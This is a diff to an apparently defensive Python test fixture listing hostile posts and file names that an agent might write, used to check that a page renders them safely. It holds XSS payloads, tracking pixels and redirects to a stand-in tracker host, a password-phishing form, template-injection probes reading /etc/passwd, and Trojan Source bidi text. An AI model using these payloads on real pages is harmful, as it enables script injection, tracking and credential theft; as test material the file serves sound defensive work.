@@ -1,6 +1,8 @@
-"""A zoo of what a hostile agent may write. Every text carries a word of its own that people must be able to read, and does harm where it is obeyed:
+"""A zoo of what a hostile agent may write. Every text carries a word of its own that people must
+be able to read, and does harm where it is obeyed:
 
-runs script (sets `window.ranHostileScript`, opens a dialog), loads a picture from another host, moves the reader elsewhere, or breaks the page.
+runs script (sets `window.ranHostileScript`, opens a dialog), loads a picture from another host,
+moves the reader elsewhere, or breaks the page.
 """
 
 from __future__ import annotations
@@ -18,7 +20,8 @@ BREAKOUT = f"""'"></title></textarea></style></script>{SCRIPT}{HANDLER}"""
 
 POSTS = {
     "script": f"{SCRIPT}<SCRIPT SRC={TRACKER}/x.js></SCRIPT><scr<script>ipt>{RUN}</script>",
-    "handlers": f"{HANDLER}<b onmouseover={RUN}>b</b><details open ontoggle={RUN}><input autofocus onfocus={RUN}>",
+    "handlers": f"{HANDLER}<b onmouseover={RUN}>b</b><details open ontoggle={RUN}>"
+    f"<input autofocus onfocus={RUN}>",
     "links": "\n".join(
         f"[click {n}]({url})"
         for n, url in enumerate(
@@ -36,12 +39,18 @@ POSTS = {
         )
     )
     + f"\n<javascript:{RUN}> [ref][1]\n\n[1]: javascript:{RUN} 'title\" onmouseover=\"{RUN}'",
-    "svg": f'<svg onload="{RUN}"><script>{RUN}</script><a xlink:href="javascript:{RUN}"><text y=20>svg</text></a></svg><math><mtext></math>',
-    "frames": f'<iframe src="javascript:{RUN}"></iframe><iframe srcdoc="{SCRIPT}"></iframe><object data="{TRACKER}"></object><embed src="{TRACKER}">',
-    "tracking pixel": f"![pixel]({TRACKER}/p.png) ![ref][p] {PICTURE} <video poster={TRACKER}/v.png>\n\n[p]: {TRACKER}/q.png",
-    "refresh": f'<meta http-equiv="refresh" content="0;url={TRACKER}"><base href="{TRACKER}"><link rel=stylesheet href="{TRACKER}/x.css">',
-    "form": f'<form action="{TRACKER}"><input type=password name=key><button>Enter your key</button></form></div></article></main><h1>owned</h1>',
-    "style": f"<style>*{{display:none}}body{{background:url({TRACKER})}}</style><div style='position:fixed;inset:0;background:url({TRACKER})'>over all</div>",
+    "svg": f'<svg onload="{RUN}"><script>{RUN}</script><a xlink:href="javascript:{RUN}">'
+    "<text y=20>svg</text></a></svg><math><mtext></math>",
+    "frames": f'<iframe src="javascript:{RUN}"></iframe><iframe srcdoc="{SCRIPT}"></iframe>'
+    f'<object data="{TRACKER}"></object><embed src="{TRACKER}">',
+    "tracking pixel": f"![pixel]({TRACKER}/p.png) ![ref][p] {PICTURE} "
+    f"<video poster={TRACKER}/v.png>\n\n[p]: {TRACKER}/q.png",
+    "refresh": f'<meta http-equiv="refresh" content="0;url={TRACKER}"><base href="{TRACKER}">'
+    f'<link rel=stylesheet href="{TRACKER}/x.css">',
+    "form": f'<form action="{TRACKER}"><input type=password name=key>'
+    "<button>Enter your key</button></form></div></article></main><h1>owned</h1>",
+    "style": f"<style>*{{display:none}}body{{background:url({TRACKER})}}</style>"
+    f"<div style='position:fixed;inset:0;background:url({TRACKER})'>over all</div>",
     "template": "{{7+7}} {% include '/etc/passwd' %} ${7*7} #{7*7} {{ ''.__class__ }} {{config}}",
     "direction": f"{RTL}txt.exe{RTL} {ZERO_WIDTH}nothing here{ZERO_WIDTH} \u2066isolated never closed",
     "zalgo": f"Z{ZALGO}a{ZALGO}lgo",
@@ -57,7 +66,8 @@ POSTS = {
     "entities": "&lt;script&gt; &#60;script&#62; &amp;lt; &NotAnEntity; &#0; &#x202e;",
     "fences": f'```html\n{SCRIPT}\n```\n~~~"onclick={RUN}\n{HANDLER}\n~~~',
     "autolinks": f'<http://x.invalid/"onmouseover="{RUN}> http://x.invalid/\'><script>{RUN}</script>',
-    "heading ids": '# <a name="main"> {#main onclick=x}\n\n<div id="live" data-live-part="//tracker.invalid/">',
+    "heading ids": '# <a name="main"> {#main onclick=x}\n\n'
+    '<div id="live" data-live-part="//tracker.invalid/">',
 }
 
 _COMMIT = "commit:abcdef1"
@@ -94,9 +104,10 @@ FILES: dict[
 ] = {  # names may hold all but control characters, slashes, backslashes and colons
     "<img src=x onerror=alert(1)>.py": b"name = 1\n",
     '" onmouseover="alert(1)" x=".js': f"// {SCRIPT}\n".encode(),
-    f"{RTL}yp.txt": "access = 'user\u202e \u2066// admin\u2069 \u2066'\n".encode(),  # Trojan Source, CVE-2021-42574
+    # Trojan Source, CVE-2021-42574
+    f"{RTL}yp.txt": "access = 'user\u202e \u2066// admin\u2069 \u2066'\n".encode(),
     "{{7*7}}.html": f"<html>{SCRIPT}{HANDLER}{PICTURE}</html>\n".encode(),
-    "evil.svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>\n'.encode(),
+    "evil.svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}">{SCRIPT}</svg>\n'.encode(),
     "evil.md": f"[x](javascript:{RUN}) {SCRIPT}\n".encode(),
     "long.txt": b"L" * 300_000 + b"\n",
     "lines.txt": b"l\n" * 60_000,
